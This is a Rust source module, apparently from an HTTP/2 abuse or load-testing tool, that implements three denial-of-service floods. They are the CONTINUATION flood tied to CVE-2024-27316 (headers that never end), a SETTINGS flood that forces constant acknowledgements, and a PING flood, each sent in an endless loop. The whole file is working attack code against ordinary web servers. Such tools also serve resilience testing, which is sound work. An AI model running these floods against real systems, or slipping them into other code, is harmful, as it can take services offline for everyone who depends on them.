//! Frames without end: of a header block that never ends (CVE-2024-27316), and those that must be answered.

use std::rc::Rc;

use crate::abuse::connection::{Connection, Ended};
use crate::abuse::frames;
use crate::abuse::headers;
use crate::abuse::target::Target;

const PER_FLOOD: usize = 100;
/// SETTINGS_HEADER_TABLE_SIZE, and one that nobody knows.
const TABLE_SIZE: u16 = 1;
const UNKNOWN: u16 = 0x7777;

/// HEADERS without END_HEADERS, then CONTINUATION for ever.
pub(super) async fn continuation(target: &Rc<Target>) -> Result<(), Ended> {
    let mut connection = Connection::open_http2(target, 1, &[]).await?;
    let block = headers::call(&target.spec.method, None);
    connection.send(&frames::headers(1, 0, &block)).await?;
    let more = frames::continuation(1, 0, &headers::filler(1000)).repeat(PER_FLOOD);
    endless(&mut connection, target, &more).await
}

/// Settings that each must be taken over and acknowledged.
pub(super) async fn settings(target: &Rc<Target>) -> Result<(), Ended> {
    let mut connection = Connection::open_http2(target, 1, &[]).await?;
    let small = frames::settings(&[(TABLE_SIZE, 0), (UNKNOWN, 1)]);
    let large = frames::settings(&[(TABLE_SIZE, 4096), (UNKNOWN, 2)]);
    endless(
        &mut connection,
        target,
        &[small, large].concat().repeat(PER_FLOOD / 2),
    )
    .await
}

/// Pings that each must be answered.
pub(super) async fn ping(target: &Rc<Target>) -> Result<(), Ended> {
    let mut connection = Connection::open_http2(target, 1, &[]).await?;
    endless(&mut connection, target, &frames::ping().repeat(PER_FLOOD)).await
}

async fn endless(connection: &mut Connection, target: &Target, more: &[u8]) -> Result<(), Ended> {
    loop {
        connection.send(more).await?;
        target.throttle().await.map_err(|_| Ended)?;
    }
}
